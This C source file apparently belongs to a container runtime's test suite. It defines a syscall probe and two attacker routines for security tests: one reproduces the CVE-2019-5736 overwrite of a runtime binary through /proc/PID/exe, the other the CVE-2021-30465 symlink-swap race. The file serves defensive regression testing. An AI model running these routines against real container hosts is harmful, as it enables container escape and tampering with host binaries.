/* probe: a tiny static program the integration tests copy into containers to make one system
 * call and report how it went ("ok" or the errno name), where busybox has no applet for it;
 * and two attackers the security tests use (exe-grab, swap). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int report(long rc) {
    if (rc < 0) {
        printf("%s\n", strerrorname_np(errno));
        return 1;
    }
    printf("ok\n");
    return 0;
}

static void pause_ms(long ms) {
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
}

/* CVE-2019-5736, the attacker's side. Waits for a process that runs another binary than ours
 * to appear, opens its /proc/PID/exe, and once that process is gone tries to write into the
 * file it ran. Prints "ready", "found <link>", then "write ok" or what stopped it; then
 * sleeps, so that as a container's pid 1 it does not take the namespace down with it. */
static int grab_and_write(void);

static int exe_grab(void) {
    int rc = grab_and_write();
    fflush(stdout);
    for (;;) pause();
    return rc;
}

static int grab_and_write(void) {
    struct stat self;
    if (stat("/proc/self/exe", &self) < 0) return report(-1);
    printf("ready\n");
    fflush(stdout);
    int grabbed = -1;
    for (int round = 0; grabbed < 0 && round < 60000; ++round) {
        DIR* d = opendir("/proc");
        struct dirent* e;
        while (d && grabbed < 0 && (e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
            char path[300], link[256] = "";
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            struct stat st;
            if (fd < 0 || fstat(fd, &st) < 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino)) {
                if (fd >= 0) close(fd);
                continue;
            }
            ssize_t n = readlink(path, link, sizeof link - 1);
            link[n > 0 ? n : 0] = 0;
            printf("found %s\n", link);
            fflush(stdout);
            grabbed = fd;
        }
        if (d) closedir(d);
        if (grabbed < 0) pause_ms(1);
    }
    if (grabbed < 0) {
        printf("nothing found\n");
        return 1;
    }
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", grabbed);
    for (int round = 0; round < 3000; ++round) {
        int w = open(path, O_WRONLY | O_CLOEXEC);
        if (w < 0 && errno == ETXTBSY) { /* still running: wait for it to go */
            pause_ms(10);
            continue;
        }
        if (w < 0) {
            printf("open for writing: %s\n", strerrorname_np(errno));
            return 0;
        }
        if (write(w, "\177ELF-overwritten", 17) != 17) {
            printf("write: %s\n", strerrorname_np(errno));
            return 0;
        }
        printf("write ok\n");
        return 0;
    }
    printf("still busy\n");
    return 1;
}

/* CVE-2021-30465, the racing neighbour: exchanges two names (a directory and a symlink) in a
 * loop, for `seconds`. */
static int swap(const char* a, const char* b, int seconds) {
    time_t end = time(NULL) + seconds;
    long n = 0;
    while (time(NULL) < end)
        for (int i = 0; i < 1000; ++i, ++n)
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0) return report(-1);
    printf("%ld swaps\n", n);
    return 0;
}

/* A raw clone into a new user namespace (the flags a seccomp filter can see), child exits at once. */
static int clone_newuser(void) {
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) _exit(0);
    if (pid > 0) waitpid((pid_t)pid, NULL, 0);
    return report(pid);
}

int main(int argc, char** argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: probe add_key|keyctl|unshare-user|clone-newuser|clone3|mount DIR|exe-grab|swap A B SECONDS\n");
        return 2;
    }
    const char* what = argv[1];
    if (!strcmp(what, "add_key"))  /* a key in a new session keyring */
        return report(syscall(SYS_add_key, "user", "probe", "v", 1, -3 /* KEY_SPEC_SESSION_KEYRING */));
    if (!strcmp(what, "keyctl"))   /* KEYCTL_GET_KEYRING_ID of the session keyring */
        return report(syscall(SYS_keyctl, 0, -3, 0));
    if (!strcmp(what, "unshare-user"))
        return report(unshare(CLONE_NEWUSER));
    if (!strcmp(what, "clone-newuser"))
        return clone_newuser();
    if (!strcmp(what, "clone3"))   /* no arguments: EINVAL from the kernel, ENOSYS from a filter */
        return report(syscall(435 /* SYS_clone3 */, NULL, 0));
    if (!strcmp(what, "mount") && argc == 3)  /* a tmpfs on argv[2] */
        return report(mount("tmpfs", argv[2], "tmpfs", 0, NULL));
    if (!strcmp(what, "exe-grab"))
        return exe_grab();
    if (!strcmp(what, "swap") && argc == 5)
        return swap(argv[2], argv[3], atoi(argv[4]));
    fprintf(stderr, "probe: unknown probe %s\n", what);
    return 2;
}
